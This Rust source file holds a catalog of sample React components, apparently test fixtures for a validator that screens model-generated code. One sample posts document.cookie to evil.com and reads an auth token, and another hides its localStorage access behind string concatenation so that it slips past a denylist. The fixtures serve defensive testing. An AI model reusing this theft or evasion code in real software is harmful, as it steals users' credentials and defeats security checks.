//! Built-in candidates for demos and tests.

/// One example candidate.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct CatalogEntry {
    /// Short lookup key
    pub key: &'static str,
    /// Component the source defines
    pub component: &'static str,
    /// What the example does
    pub description: &'static str,
    /// Candidate source, as a model might emit it
    pub source: &'static str,
}

/// Counter with two buttons and an effect-driven message.
pub const SAFE_COUNTER: CatalogEntry = CatalogEntry {
    key: "safe",
    component: "SafeCounter",
    description: "Counter using state and an effect; touches no host capability",
    source: r#"
function SafeCounter() {
  const [count, setCount] = useState(0);
  const [message, setMessage] = useState('Click the button!');

  useEffect(() => {
    if (count > 0) {
      setMessage(`You clicked ${count} time${count === 1 ? '' : 's'}`);
    }
  }, [count]);

  return (
    <div className="p-6 bg-gradient-to-r from-blue-50 to-purple-50 rounded-lg shadow-lg">
      <h3 className="text-2xl font-bold text-gray-800 mb-4">Safe Counter Component</h3>
      <p className="text-gray-600 mb-4">{message}</p>
      <div className="flex gap-4">
        <button
          onClick={() => setCount(count + 1)}
          className="px-4 py-2 bg-blue-600 text-white rounded hover:bg-blue-700 transition"
        >
          Increment
        </button>
        <button
          onClick={() => setCount(0)}
          className="px-4 py-2 bg-gray-600 text-white rounded hover:bg-gray-700 transition"
        >
          Reset
        </button>
      </div>
      <div className="mt-4 text-3xl font-bold text-blue-600">{count}</div>
    </div>
  );
}
"#,
};

/// Reads the auth token from storage and posts cookies to a foreign origin.
pub const MALICIOUS: CatalogEntry = CatalogEntry {
    key: "malicious",
    component: "MaliciousComponent",
    description: "Reads localStorage and sends document.cookie to another origin",
    source: r#"
function MaliciousComponent() {
  const [data, setData] = useState('');

  useEffect(() => {
    // Try to access localStorage
    try {
      const token = localStorage.getItem('authToken');
      setData('Got token: ' + token);
    } catch (e) {
      setData('localStorage blocked');
    }

    // Try to make a fetch request
    try {
      fetch('https://evil.com/steal', {
        method: 'POST',
        body: JSON.stringify({ cookies: document.cookie })
      });
    } catch (e) {
      console.log('Fetch blocked');
    }
  }, []);

  return (
    <div className="p-4 bg-red-100 rounded">
      <h3 className="font-bold">Malicious Component</h3>
      <p>Attempting to access sensitive data...</p>
      <p className="text-sm mt-2">{data}</p>
    </div>
  );
}
"#,
};

/// Same theft as [`MALICIOUS`], written so that no denylisted name appears
/// literally in the source.
pub const EVASIVE: CatalogEntry = CatalogEntry {
    key: "evasive",
    component: "EvasiveComponent",
    description: "Reaches localStorage through a computed member the validator cannot see",
    source: r#"
```tsx
function EvasiveComponent() {
  const [data, setData] = useState('');

  useEffect(() => {
    try {
      const store = window['local' + 'Storage'];
      setData('Got token: ' + store.getItem('authToken'));
    } catch (e) {
      setData('localStorage blocked');
    }
  }, []);

  return (
    <div className="p-4 bg-yellow-100 rounded">
      <h3 className="font-bold">Evasive Component</h3>
      <p className="text-sm mt-2">{data}</p>
    </div>
  );
}
```
"#,
};

/// Does not parse: the JSX element is never closed.
pub const BROKEN: CatalogEntry = CatalogEntry {
    key: "broken",
    component: "BrokenComponent",
    description: "Mismatched braces and an unclosed element",
    source: r#"
function BrokenComponent() {
  const [open, setOpen] = useState(false);
  return (
    <div className="p-4">
      <button onClick={() => setOpen(!open)}>Toggle</button>
  );
"#,
};

/// Every built-in example.
pub const ALL: [CatalogEntry; 4] = [SAFE_COUNTER, MALICIOUS, EVASIVE, BROKEN];

/// Look up an example by key.
pub fn find(key: &str) -> Option<&'static CatalogEntry> {
    ALL.iter().find(|entry| entry.key.eq_ignore_ascii_case(key))
}
